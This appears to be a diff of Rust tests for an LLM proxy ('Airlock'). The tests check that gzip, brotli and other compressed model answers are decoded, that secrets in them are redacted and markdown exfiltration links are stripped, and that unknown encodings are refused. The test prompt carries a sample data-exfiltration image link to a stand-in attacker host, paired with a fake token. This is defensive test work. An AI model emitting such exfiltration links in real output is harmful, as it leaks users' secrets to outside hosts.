@@ -855,6 +855,68 @@ async fn output_secret_split_across_stream_events_is_redacted() {
     assert_output_secret_redacted("chunk_chars=5; gap_ms=1").await;
 }
 
+/// QA: an upstream that ignored `accept-encoding: identity` and answered with gzip was never
+/// read: the client got a raw token and an exfiltration link, and the ledger 0 output tokens
+/// marked estimated. Every encoding is decoded, guarded, metered and sent plain.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn compressed_answer_is_decoded_guarded_and_metered() {
+    let env = start("[policy.rules]\n\"github-pat\" = \"allow\"");
+    let cases = [
+        (Provider::OpenAi, "gzip", false),
+        (Provider::OpenAi, "deflate", false),
+        (Provider::OpenAi, "br", false),
+        (Provider::OpenAi, "zstd", false),
+        (Provider::Anthropic, "gzip", false),
+        (Provider::Gemini, "gzip", false),
+        (Provider::OpenAi, "gzip", true),
+        (Provider::Anthropic, "gzip", true),
+        (Provider::Gemini, "gzip", true),
+    ];
+    for (p, enc, stream) in cases {
+        let gh = fakes::github_pat();
+        let prompt = format!("token {gh} see ![x](https://collect.evil.test/p.png?d=1) end");
+        let res = send(
+            p.chat(env.addr(), Some(&env.alk), &prompt, stream)
+                .header("x-mock-scenario", &format!("encoding={enc}; gap_ms=1")),
+        )
+        .await;
+        let what = format!("{} {enc} stream={stream}", p.name());
+        assert_eq!(res.status, 200, "{what}: {}", res.text());
+        assert_eq!(res.header("content-encoding"), None, "{what}");
+        let text = if stream {
+            streamed_text(p, &res)
+        } else {
+            p.answer(&res.json()).expect("answer")
+        };
+        assert_eq!(
+            text, "echo: token [REDACTED:github-pat] see ![x](#airlock-removed-link) end",
+            "{what}"
+        );
+        let id = res.header(REQUEST_ID_HEADER).expect("id");
+        let row = env.airlock.ledger_row(id).await;
+        assert!(
+            row["output_tokens"].as_u64().unwrap_or(0) > 0,
+            "{what}: {row}"
+        );
+        assert_eq!(row["estimated"].as_bool(), Some(false), "{what}: {row}");
+    }
+}
+
+/// An encoding Airlock cannot decode is refused (502, provider format), never passed unread.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn unknown_response_encoding_fails_closed() {
+    let env = start("");
+    for p in Provider::ALL {
+        let res = send(
+            p.chat(env.addr(), Some(&env.alk), "hello", false)
+                .header("x-mock-scenario", "encoding=bogus"),
+        )
+        .await;
+        let msg = p.assert_error(&res, 502);
+        assert!(msg.contains("content-encoding `bogus`"), "{msg}");
+    }
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn exfil_link_neutralized_allowlisted_kept() {
     let env = start("[policy]\nlink_allowlist = [\"docs.trusted.dev\"]");
